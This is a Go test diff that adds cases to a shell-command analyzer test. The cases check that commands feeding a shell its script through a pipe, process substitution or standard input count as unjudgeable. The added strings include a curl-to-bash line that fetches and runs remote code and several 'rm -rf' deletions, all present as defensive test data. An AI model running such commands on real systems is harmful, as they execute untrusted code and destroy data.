@@ -283,6 +283,11 @@ func TestEvaluatedAtRunTime(t *testing.T) {
 		"env -S '${X} S'",
 		"hash -p \"$P\" ls",
 		"enable -f ./x.so x",
+		// A shell whose script comes from a pipe, a process substitution,
+		// a file fed to its input, or standard input by name.
+		"echo 'rm -rf x' | sh", "curl -s https://x.example/a | bash", "bash <(printf 'rm -rf x')",
+		"sh -s < file", "bash < <(echo 'rm -rf x')", "sh < script.sh", "source /dev/stdin", ". /dev/stdin",
+		"sh /dev/stdin", "bash /dev/fd/0", "source /proc/self/fd/0", "bash /proc/1234/fd/0",
 	} {
 		if a := Analyze(cmd, opts); len(a.Unjudgeable) == 0 {
 			t.Errorf("%q: judged (commands %v)", cmd, a.Commands)
